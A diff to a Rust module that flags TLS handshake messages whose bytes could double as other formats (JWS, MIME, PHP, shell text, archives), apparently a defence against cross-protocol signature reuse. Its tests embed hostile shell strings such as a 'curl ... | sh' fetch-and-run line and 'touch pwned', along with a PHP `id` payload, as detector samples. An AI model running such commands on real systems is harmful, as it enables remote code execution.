@@ -5,14 +5,12 @@
 //! would take. Each row says how likely a message of a real client has its form by chance; together these are below one in a
 //! million, also for clients whose random begins with a clock or zeros, or is text.
 //!
-//! Not told apart, since nothing marks them: text of fewer than 56 bytes before the rest, such as a line of shell without `#!`;
-//! content of CMS, OpenPGP of version 3 and minisign in a format of its own; U2F and WebAuthn; keys of Biscuit and C509.
+//! Not told apart, since nothing marks them: short text, such as a command for a shell without `#!`, within the limits that
+//! stand at `is_text`; content of CMS, OpenPGP of version 3 and minisign in a format of its own; U2F and WebAuthn; keys of
+//! Biscuit and C509; files of `compress`, whose two bytes come by chance too often.
 //! Formats whose fixed parts lie where a handshake has its own, such as tar and cpio, need no row.
 
-use base64::Engine;
-use base64::engine::general_purpose::URL_SAFE_NO_PAD;
-
-use super::{Bytes, asn1};
+use super::{Bytes, asn1, tls12};
 
 /// The format other than TLS that a message has the form of, by its name.
 pub(super) fn of(message: &[u8]) -> Option<&'static str> {
@@ -69,16 +67,19 @@ const MARKS: &[Mark] = &[
     ("Android update", b"CrAU"),
     ("Mozilla archive", b"MAR1"),
     ("Chrome extension", b"CRX3 SignedData\0"),
-    // Archives and packages. PKWARE, APPNOTE 4.3; xz file format, 2.1.1; bzip2; RFC 8878, 3.1.1; LZ4 frame format; 7-Zip;
-    // RAR; ar(5), of which .deb is one; RPM, lead; MS-CAB, 2.1; squashfs; Python, marshal is not marked.
+    // Archives and packages. PKWARE, APPNOTE 4.3; xz file format, 2.1.1; RFC 8878, 3.1.1; LZ4 frame format, also of its
+    // first version; lzip; lzop; xar, of which macOS makes packages; 7-Zip; RAR; ar(5), of which .deb is one; RPM, lead;
+    // MS-CAB, 2.1; squashfs; Python, marshal is not marked.
     ("ZIP", b"PK\x03\x04"),
     ("ZIP", b"PK\x05\x06"),
     ("ZIP", b"PK\x07\x08"),
     ("xz", b"\xfd7zXZ\0"),
-    ("bzip2", b"BZh11AY&SY"),
-    ("bzip2", b"BZh91AY&SY"),
     ("Zstandard", b"\x28\xb5\x2f\xfd"),
     ("LZ4", b"\x04\x22\x4d\x18"),
+    ("LZ4", b"\x02\x21\x4c\x18"),
+    ("lzip", b"LZIP"),
+    ("lzop", b"\x89LZO\0\r\n\x1a\n"),
+    ("xar", b"xar!"),
     ("7z", b"7z\xbc\xaf\x27\x1c"),
     ("RAR", b"Rar!\x1a\x07"),
     ("ar or deb", b"!<arch>\n"),
@@ -110,11 +111,14 @@ const RULES: &[Rule] = &[
     ("OPC UA", &[0x30], asn1::is_certificate_with_nonce),
     ("SSH", &[0], is_ssh),
     ("COSE", &[0x84, 0x85, 0x86], is_cose),
-    ("JWS", b"eICD", is_jws),
+    ("JWS", &[], is_jws),
     ("PE", b"MZ", is_pe),
     ("script", b"#", is_script),
-    ("MIME", b"cCmM", is_mime),
+    ("MIME", &[], is_mime),
+    ("PHP", &[], holds_php),
     ("gzip", &[0x1f], is_gzip),
+    ("bzip2", b"B", is_bzip2),
+    ("Zstandard or LZ4", b"PQRSTUVWXYZ[\\]^_", is_skippable_frame),
     ("HIP", &[59], is_hip),
     ("certificate transparency", &[0], is_sct),
     ("OpenPGP", &[0x99], is_openpgp_key),
@@ -125,7 +129,8 @@ const RULES: &[Rule] = &[
     ("OpenPGP", &[], ends_as_openpgp),
     ("DNSSEC", &[], is_rrsig),
     ("text", &[], is_text),
-    ("ZIP", &[], ends_as_zip),
+    ("ZIP", &[], is_zip),
+    ("archive", &[], holds_archive),
     ("PDF", &[], holds_pdf),
 ];
 
@@ -209,22 +214,65 @@ fn is_ike(message: &[u8]) -> bool {
         && (4..=length.saturating_sub(28)).contains(&payload)
 }
 
-/// JWS: a header in base64url, then a dot (RFC 7515, 5.1); with `b64` false any bytes follow (RFC 7797). Chance: 2^-50, and
-/// 10^-8 for a client whose random is text.
+/// JWS: a header in base64, then a dot (RFC 7515, 5.1); with `b64` false any bytes follow (RFC 7797).
+///
+/// Read as its most lenient readers do, some of which skip bytes that are not of the alphabet (Python's `base64`, the
+/// library Nimbus), take JSON in UTF-16 and UTF-32 (Python's `json`), and take comments and names without quotes (Gson). So
+/// the form is an object in any encoding, either whole or with `alg` in it. Chance: 2^-24 for an elliptic curve, 2^-22 for
+/// DHE, where the dot may stand far behind.
 fn is_jws(message: &[u8]) -> bool {
-    // An opening brace or the blanks that may stand before it.
-    if !matches!(message.first(), Some(b'e' | b'I' | b'C' | b'D')) {
-        return false;
-    }
-    let is_base64url = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_');
-    let length = message.iter().take_while(|byte| is_base64url(byte)).count();
-    let (header, rest) = message.split_at(length);
-    rest.first() == Some(&b'.')
-        && URL_SAFE_NO_PAD.decode(header).is_ok_and(|header| {
-            let header = header.trim_ascii();
-            let members = header.strip_prefix(b"{").and_then(|header| header.strip_suffix(b"}"));
-            members.is_some_and(|members| matches!(members.trim_ascii().first(), None | Some(b'"')))
+    // Of most messages the first byte decides.
+    let mut header = lenient_base64(message.iter().take_while(|byte| **byte != b'.'))
+        .skip_while(|byte| *byte <= b' ' || matches!(byte, 0xef | 0xbb | 0xbf | 0xfe | 0xff));
+    let Some(first @ (b'{' | b'#' | b'/' | b')')) = header.next() else { return false };
+    let rest: Vec<u8> = header.filter(|byte| *byte != 0).collect();
+    let is_object = match first {
+        b'{' => true,
+        b')' => rest.starts_with(b"]}'"),
+        b'/' => matches!(rest.first(), Some(b'/' | b'*')) && rest.contains(&b'{'),
+        _ => rest.contains(&b'{'),
+    };
+    let has_members = || {
+        let rest = rest.trim_ascii();
+        first == b'{' && rest.len() > 1 && rest.starts_with(b"\"") && rest.ends_with(b"}")
+    };
+    is_object
+        && message.contains(&b'.')
+        && (has_members() || holds_ignoring_case(&without_escapes(&rest), b"alg"))
+}
+
+/// What base64 says, of both alphabets and without whatever else stands between.
+fn lenient_base64<'a>(text: impl Iterator<Item = &'a u8>) -> impl Iterator<Item = u8> {
+    let (mut bits, mut count) = (0_u32, 0_u32);
+    let sextet = |byte: &u8| match byte {
+        b'A'..=b'Z' => Some(byte - b'A'),
+        b'a'..=b'z' => Some(byte - b'a' + 26),
+        b'0'..=b'9' => Some(byte - b'0' + 52),
+        b'-' | b'+' => Some(62),
+        b'_' | b'/' => Some(63),
+        _ => None,
+    };
+    text.filter_map(sextet).filter_map(move |sextet| {
+        bits = bits << 6 | u32::from(sextet);
+        count += 6;
+        (count >= 8).then(|| {
+            count -= 8;
+            (bits >> count) as u8
         })
+    })
+}
+
+/// Text of JSON with `\u0061` written as `a` (RFC 8259, 7).
+fn without_escapes(json: &[u8]) -> Vec<u8> {
+    let mut text = Vec::with_capacity(json.len());
+    let mut rest = json;
+    while let Some((byte, after)) = rest.split_first() {
+        let digits = rest.strip_prefix(br"\u00").and_then(<[u8]>::first_chunk::<2>);
+        let escaped = digits.and_then(|digits| u8::from_str_radix(str::from_utf8(digits).ok()?, 16).ok());
+        text.push(escaped.unwrap_or(*byte));
+        rest = if escaped.is_some() { &rest[6..] } else { after };
+    }
+    text
 }
 
 /// Programs for DOS and Windows: `MZ`, then either a new header inside the file (PE format, MS-DOS stub), or as many blocks
@@ -258,24 +306,85 @@ fn is_script(message: &[u8]) -> bool {
     }
 }
 
-/// Text in UTF-8 of 56 bytes or more, whatever follows: a script for an interpreter that does not insist on `#!`, a mail, a
-/// program. Chance: 2^-60, and 10^-7 for a client whose random is text: fewer bytes would be told too often.
+/// Text, whatever stands around it: a script for an interpreter that does not insist on `#!`, a mail, a program. A shell runs
+/// every line that it can read, and goes on behind those that it cannot. Text is
+///
+/// - the first 56 bytes, all in UTF-8;
+/// - a line of ten bytes or more in ASCII, from the start of the message or of a line, up to the end of the line;
+/// - sixteen bytes of ASCII from such a start, or 21 anywhere, which hold the end of a line or a character that ends a
+///   command of a shell, or follow the end of a line.
+///
+/// In the parameters of a key exchange, which may be long, each takes three bytes more. A client may make its random of text
+/// without the end of a line: behind such a random the same is asked of the bytes that follow. Shorter text stays open, since
+/// it comes by chance too often. Chance: 2^-20.5.
 fn is_text(message: &[u8]) -> bool {
-    let Some(start) = message.first_chunk::<56>() else { return false };
+    let Some((start, parameters)) = message.split_first_chunk::<64>() else { return false };
+    // A client's transcript has its random behind six bytes, and is full of names.
+    let is_transcript = || tls12::is_transcript(message).is_some();
+    let (random, parameters) = match start {
+        [tls12::CLIENT_HELLO, 0, _, _, 3, 3, ..] if is_transcript() => (6, &[][..]),
+        _ => (0, parameters),
+    };
+    let free = start.strip_suffix(&tls12::SENTINEL).unwrap_or(start);
+    let behind_random = random + 32;
+    let text = match free[random..behind_random].iter().all(is_printable) {
+        true => &free[behind_random..],
+        false => free,
+    };
+    has_commands(text, true, 0) || has_commands(parameters, false, 3) || is_utf8(&start[..56])
+}
+
+/// The second and third of the forms that [`is_text`] has, with so many bytes `more`.
+fn has_commands(text: &[u8], mut is_start: bool, more: usize) -> bool {
+    // Ten bytes of text fill a part of five: few messages have one.
+    if !text.chunks_exact(5).any(|part| part.iter().all(is_printable)) {
+        return false;
+    }
+    let is_end = |byte: &u8| *byte == b'\n';
+    text.split(|byte| !is_printable(byte) && !is_end(byte)).any(|run| {
+        let lines = &run[run.iter().take_while(|byte| is_end(byte)).count()..];
+        let follows_end = lines.len() < run.len();
+        let begins = core::mem::take(&mut is_start) || follows_end;
+        let has_line = lines
+            .split_inclusive(is_end)
+            .enumerate()
+            .any(|(number, line)| (begins || number > 0) && line.len() > 10 + more && line.ends_with(b"\n"));
+        let has_end = follows_end || lines.iter().any(|byte| b"\n;&|#".contains(byte));
+        has_line || (has_end && lines.len() >= more + if begins { 16 } else { 21 })
+    })
+}
+
+fn is_utf8(text: &[u8]) -> bool {
     let may_be = |byte: &u8| *byte >= 0x20 && *byte != 0x7f || matches!(byte, b'\t' | b'\n' | b'\r' | 0x0c);
-    start.iter().all(may_be)
-        && match core::str::from_utf8(start) {
+    text.iter().all(may_be)
+        && match core::str::from_utf8(text) {
             Ok(_) => true,
             // The last character goes on behind.
             Err(error) => error.error_len().is_none(),
         }
 }
 
-/// MIME: the header of an entity that S/MIME signs without attributes (RFC 8551, 3.1). Chance: 2^-50.
+/// ASCII within a line, which in a mail ends in a carriage return.
+fn is_printable(byte: &u8) -> bool {
+    matches!(byte, b' '..=b'~' | b'\t' | b'\r')
+}
+
+/// MIME: an entity that S/MIME signs without attributes (RFC 8551, 3.1). Readers skip header fields that they do not know, so
+/// it is told by a field of its own anywhere. Chance: 2^-40.
 fn is_mime(message: &[u8]) -> bool {
-    let begins =
-        |word: &[u8]| message.get(..word.len()).is_some_and(|start| start.eq_ignore_ascii_case(word));
-    begins(b"content-") || begins(b"mime-version")
+    let is = |from: Option<usize>, word: &[u8]| {
+        let part = from.and_then(|from| message.get(from..from + word.len()));
+        part.is_some_and(|part| part.eq_ignore_ascii_case(word))
+    };
+    message.contains(&b'-')
+        && (0..message.len())
+            .filter(|at| message[*at] == b'-')
+            .any(|at| is(at.checked_sub(7), b"content-t") || is(at.checked_sub(4), b"mime-version"))
+}
+
+/// PHP: whatever stands before the first tag is printed. Chance: 2^-29.
+fn holds_php(message: &[u8]) -> bool {
+    message.contains(&b'<') && holds_ignoring_case(message, b"<?php")
 }
 
 /// OpenPGP: the signed bytes end in a trailer with the length of the part of the signature that is signed with it
@@ -303,17 +412,27 @@ fn is_gzip(message: &[u8]) -> bool {
     matches!(message, [0x1f, 0x8b, 8, 0..=0x1f, ..])
 }
 
-/// ZIP, and with it JAR, APK and Office: found by its end, whatever stands before it (APPNOTE, 4.3.16). Only messages that have
-/// room for an entry. Chance: 2^-38.
-fn ends_as_zip(message: &[u8]) -> bool {
-    const END: usize = 22;
-    let Some(last) = message.len().checked_sub(END).filter(|_| message.len() > ROOMY) else { return false };
-    let from = last.saturating_sub(usize::from(u16::MAX));
-    (from..=last).rev().any(|at| {
-        message[at] == b'P'
-            && message[at..].starts_with(b"PK\x05\x06")
-            && usize::from(u16::from_le_bytes([message[at + 20], message[at + 21]])) == last - at
-    })
+/// bzip2: the size of its blocks, then the mark of a block. Chance: 2^-76.
+fn is_bzip2(message: &[u8]) -> bool {
+    matches!(message, [b'B', b'Z', b'h', b'1'..=b'9', b'1', b'A', b'Y', b'&', b'S', b'Y', ..])
+}
+
+/// Zstandard and LZ4: a frame of any bytes that readers skip before the real one (RFC 8878, 3.1.2). Chance: 2^-28.
+fn is_skippable_frame(message: &[u8]) -> bool {
+    matches!(message, [0x50..=0x5f, 0x2a, 0x4d, 0x18, ..])
+}
+
+/// ZIP, and with it JAR, APK and Office: found by the record at its end, whatever stands before and behind, and by an entry of
+/// the directory, of which readers look in several places (APPNOTE, 4.3.12 and 4.3.16). Chance: 2^-50.
+fn is_zip(message: &[u8]) -> bool {
+    message.contains(&b'P') && holds(message, b"PK\x05\x06") && holds(message, b"PK\x01\x02")
+}
+
+/// Archives that readers look for behind a program that unpacks them: 7z, RAR, cabinet. Only messages that have room for one.
+/// Chance: 2^-37.
+fn holds_archive(message: &[u8]) -> bool {
+    let marks: [&[u8]; 3] = [b"7z\xbc\xaf\x27\x1c", b"Rar!\x1a\x07", b"MSCF\0\0\0\0"];
+    message.len() > ROOMY && marks.iter().any(|mark| holds(message, mark))
 }
 
 /// PDF, which may begin anywhere in the first 1,024 bytes for its readers (ISO 32000-1, implementation note 13). Chance: 2^-30.
@@ -399,6 +518,10 @@ fn holds(text: &[u8], part: &[u8]) -> bool {
     text.windows(part.len()).any(|window| window == part)
 }
 
+fn holds_ignoring_case(text: &[u8], part: &[u8]) -> bool {
+    text.windows(part.len()).any(|window| window.eq_ignore_ascii_case(part))
+}
+
 /// RFC 4252, 6.
 const SSH_MSG_USERAUTH_REQUEST: u8 = 50;
 
@@ -407,6 +530,9 @@ const ROOMY: usize = 64 + 4 + 133;
 
 #[cfg(test)]
 mod tests {
+    use base64::Engine;
+    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+
     use super::*;
 
     /// A ServerKeyExchange over X25519 that begins like this, and ends like that.
@@ -450,11 +576,15 @@ mod tests {
             let mut zip = vec![0xa5; 583];
             let at = zip.len() - 22 - behind;
             zip[at..at + 4].copy_from_slice(b"PK\x05\x06");
-            zip[at + 20..at + 22].copy_from_slice(&(behind as u16).to_le_bytes());
+            zip[at - 60..at - 56].copy_from_slice(b"PK\x01\x02");
             zip
         };
         let mut pdf = vec![0xa5; 583];
         pdf[500..505].copy_from_slice(b"%PDF-");
+        let roomy = |mark: &[u8]| [&[0xa5; 400][..], mark, &[0xa5; 183]].concat();
+        let base64 = |header: &[u8]| URL_SAFE_NO_PAD.encode(header).into_bytes();
+        let utf16 = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
+        let es256 = base64(br#"{"alg":"ES256"}"#);
         let pgp = |version: u8, digits: usize| {
             let hashed = [version, 0, 19, 8, 0, 6, 5, 2, 0x60, 0, 0, 0];
             let mut end = [&hashed[..], &[version, 0xff]].concat();
@@ -485,6 +615,15 @@ mod tests {
             ("JWS", shaped(b"eyJhbGciOiJFUzI1NiJ9.eyJzdWI", &[])),
             ("JWS", shaped(b"eyJiNjQiOmZhbHNlLCJjcml0IjpbImI2NCJdfQ.\x01", &[])),
             ("JWS", shaped(b"IHsiYWxnIjoiRVMyNTYifQ.", &[])),
+            ("JWS", shaped(&[b"\x01", &es256[..], b"."].concat(), &[])),
+            ("JWS", shaped(&[b"\xff=", &es256[..4], b"\x80\n", &es256[4..], b"==\x01."].concat(), &[])),
+            ("JWS", shaped(&es256, b".\x01")),
+            ("JWS", shaped(&base64(&utf16(r#"{"alg":"ES256""#)), b".")),
+            ("JWS", shaped(&base64(&[b"\xff\xfe", &utf16(r#"{"alg":"#)[..]].concat()), b".")),
+            ("JWS", shaped(&base64(b"\xef\xbb\xbf{ \"x\":1, \"alg\":\"ES256\"}"), b".")),
+            ("JWS", shaped(&base64(br#"{"\u0061l\u0067":"ES256"}"#), b".")),
+            ("JWS", shaped(&base64(b"/**/{alg=ES256}"), b".")),
+            ("JWS", shaped(&base64(b")]}'\n{'alg':'ES256'}"), b".")),
             ("PE", [pe, vec![1; 100]].concat()),
             ("PE", small_pe),
             ("script", shaped(b"#!/bin/sh\nid>/tmp/x\nexit\n", &[])),
@@ -500,12 +639,29 @@ mod tests {
                 ),
             ),
             ("MIME", shaped(b"Content-Type: text/plain\r\n\r\nPay\r\n", &[])),
+            ("text", shaped(b"echo owned by $(id -un);exit\n\x01", &[])),
+            ("text", shaped(b"touch pwned;exit\n\x80\x81\x82", &[])),
+            ("text", shaped(b"\x01\x02\n\ntouch pwned\n\x80", &[])),
+            ("text", shaped(&[], b"\n\ntouch pwned;exit\n")),
+            ("text", roomy(b"\ntouch pwned;exit\n")),
+            ("text", shaped(b"\x01\x02;curl -s a.example | sh;exit", &[])),
+            ("text", shaped(b"touch pwned;exit #\x01", &[])),
+            ("text", shaped(b"\r\n\nPay 9999 to Mallory\x01", &[])),
+            ("text", shaped(b"0123456789abcdef0123456789abcdef\ntouch pwned\n\x01", &[])),
             ("MIME", shaped(b"MIME-Version: 1.0\r\n", &[])),
+            ("MIME", shaped(b"A:\x01\r\ncontent-type:text/plain\r\n\r\nPay\r\n", &[])),
+            ("MIME", shaped(b"\x01\nCONTENT-Transfer-Encoding:7bit\n\nPay\n\x01", &[])),
+            ("MIME", shaped(b"\x01: 1\n mime-version:1\n\n\x01", &[])),
+            ("PHP", shaped(b"\x01<?PHP `id`;", &[])),
             ("OpenPGP", pgp(4, 4)),
             ("OpenPGP", pgp(6, 4)),
             ("OpenPGP", pgp(5, 8)),
             ("OpenPGP", shaped(&[0x99, 0, 0x33, 4, 0x60, 0, 0, 0, 19], &[])),
             ("gzip", shaped(&[0x1f, 0x8b, 8, 0], &[])),
+            ("bzip2", shaped(b"BZh41AY&SY", &[])),
+            ("Zstandard or LZ4", shaped(b"\x5f\x2a\x4d\x18", &[])),
+            ("archive", roomy(b"7z\xbc\xaf\x27\x1c")),
+            ("archive", roomy(b"MSCF\0\0\0\0")),
             ("ZIP", zip(0)),
             ("ZIP", zip(300)),
             ("PDF", pdf),
@@ -531,12 +687,21 @@ mod tests {
             &[&[0, 0, 0, 20][..], &[7; 20], &[50, 9, 9]].concat(),
             b"#!",
             b"#!/bin",
-            b"#!(a) line of text\n",
+            b"#!(a)\n",
             b"MZ",
             b"PK",
             b"eyJhbGciOiJFUzI1NiJ9",
             b"0123456789abcdef0123456789abcdef",
-            b"GET / HTTP/1.1\r\nHost: shop.example",
+            b"GET / HTTP/1.1 and Host: shop.ex",
+            // Short commands, and text of a client's own that is followed by something else.
+            b"id>x;exit\n\x01",
+            b"\x01\ntouch x;id\x01",
+            b"random of a client\0",
+            b"0123456789abcdef0123456789abcdef\n\x01",
+            b"\x01eyJhbGciOiJFUzI1NiJ9",
+            b"e30.",
+            b"{\"alg\":\"ES256\"}.",
+            b"Content",
             &[0x84, 0x6a],
             &[0x1f, 0x8b],
             &[0x60, 0, 0, 0],
